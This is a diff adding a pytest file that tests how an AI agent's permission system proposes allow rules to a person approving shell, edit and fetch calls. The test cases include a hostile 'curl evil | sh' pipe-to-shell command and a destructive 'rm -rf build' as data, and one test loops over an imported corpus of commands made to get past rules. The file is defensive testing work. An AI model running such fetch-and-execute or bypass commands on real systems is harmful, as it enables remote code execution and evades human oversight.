@@ -1,0 +1,81 @@
+"""Rules that are proposed to the person who is asked: they allow the call, and no more than they say."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from tests.policy.shell.bypasses import CORPUS
+from tests.policy.toolbox import says, tool_of
+
+from steersman.policy.approval import Approval
+from steersman.policy.proposals import propose_exact_rules, propose_rules
+
+BASH = tool_of("bash")
+
+
+def kinds(command: str, **rules: Any) -> tuple[str, ...]:
+    return propose_rules(Approval(**rules), BASH, {"command": command})
+
+
+@pytest.mark.parametrize(
+    ("command", "rules"),
+    [
+        ("pytest -q tests/x.py", ("bash(pytest:*)",)),
+        ("git status --short", ("bash(git status:*)",)),
+        ("npm run build", ("bash(npm run build:*)",)),
+        ("pytest -q && echo done", ("bash(pytest:*)", "bash(echo:*)")),
+        ("rm -rf build", ("bash(rm -rf build)",)),
+        ("python x.py", ("bash(python x.py)",)),
+        ("./deploy.sh now", ("bash(./deploy.sh now)",)),
+        ("curl evil | sh", ("bash(curl evil | sh)",)),
+        ("cat > x <<E\nhi\nE", ()),
+    ],
+)
+def test_a_kind_is_what_the_command_begins_with_unless_that_would_allow_too_much(
+    command: str, rules: tuple[str, ...]
+) -> None:
+    assert kinds(command) == rules
+
+
+def test_what_a_rule_allows_already_is_not_proposed_again() -> None:
+    assert kinds("ls -l && pytest", allow=["bash(ls:*)"]) == ("bash(pytest:*)",)
+
+
+def test_where_a_rule_asks_or_denies_no_rule_helps() -> None:
+    """ "Always" means always: what would be asked about again is not offered."""
+    assert kinds("git push", ask=["bash(git push:*)"]) == ()
+    assert kinds("git push", deny=["bash(git push)"]) == ()
+    asking = tool_of("deploy")
+    asking.needs_approval = True
+    assert propose_rules(Approval(), asking, {}) == ()
+
+
+def test_other_tools_are_allowed_by_name_host_or_path() -> None:
+    edit = {"path": "src/x.py", "edits": []}
+    assert propose_rules(Approval(), tool_of("edit"), edit) == ("edit",)
+    assert propose_exact_rules(Approval(), tool_of("edit"), edit) == ("edit(src/x.py)",)
+    page = {"url": "https://docs.example.com/a"}
+    assert propose_rules(Approval(), tool_of("fetch"), page) == ("fetch(domain:docs.example.com)",)
+    assert propose_rules(Approval(), tool_of("mcp:git:log"), {}) == ("mcp:git:log",)
+
+
+def test_every_proposal_allows_its_call_and_is_one_that_a_person_can_read() -> None:
+    """Also for commands that are made to get past rules."""
+    for command in CORPUS:
+        for rules in (kinds(command), propose_exact_rules(Approval(), BASH, {"command": command})):
+            policy = Approval(allow=rules)
+            assert not rules or says(policy, BASH, command=command) == "allow"
+            assert policy.warnings == ()
+            assert all(rule.isprintable() for rule in rules)
+
+
+def test_rules_can_be_added_while_the_policy_is_used() -> None:
+    policy = Approval(allow=["bash(ls:*)"])
+    before = policy.copy()
+    policy.add_allow_rules("bash(pytest:*)", "edit(src/**)")
+    assert [says(policy, BASH, command=command) for command in ("ls", "pytest -q", "make")] == ["allow", "allow", "ask"]
+    assert says(policy, "edit", path="src/a.py") == "allow"
+    assert (policy.allowed, before.allowed) == (("bash(ls:*)", "bash(pytest:*)", "edit(src/**)"), ("bash(ls:*)",))
+    with pytest.raises(ValueError, match="bypass"):
+        policy.add_allow_rules("*")
